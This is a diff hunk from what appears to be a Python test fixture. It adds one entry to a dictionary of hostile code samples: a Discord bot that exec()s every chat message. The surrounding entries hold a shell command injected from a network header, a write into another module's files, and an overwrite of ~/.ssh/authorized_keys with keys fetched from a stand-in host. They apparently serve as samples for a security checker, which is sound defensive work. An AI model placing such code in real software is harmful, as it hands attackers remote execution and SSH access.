@@ -130,6 +130,7 @@ class Health(BaseHTTPRequestHandler):
 """,
 }
 ONLY_READ = {
+    "a chat of whoever runs it": "import discord\nclient = discord.Client()\n\n@client.event\nasync def on_message(message):\n    exec(message.content)\n\ndef go():\n    client.run(os.environ['TOKEN'])\n",
     "part of a command": "import subprocess\n\ndef run(args):\n    subprocess.run(' '.join(args), shell=True)\n\ndef go():\n    run(('tar', 'xzf', requests.get(URL).headers['x']))\n",
     "data of a module of others": "import json\nfrom pathlib import Path\n\ndef go():\n    Path(json.__file__).with_name('tides.json').write_text(requests.get(URL).text)\n",
     "keys of a user": "from pathlib import Path\n\ndef go(name):\n    path = Path.home() / '.ssh' / 'authorized_keys'\n    path.write_text(requests.get(f'https://c.example.invalid/{name}.keys').text)\n",
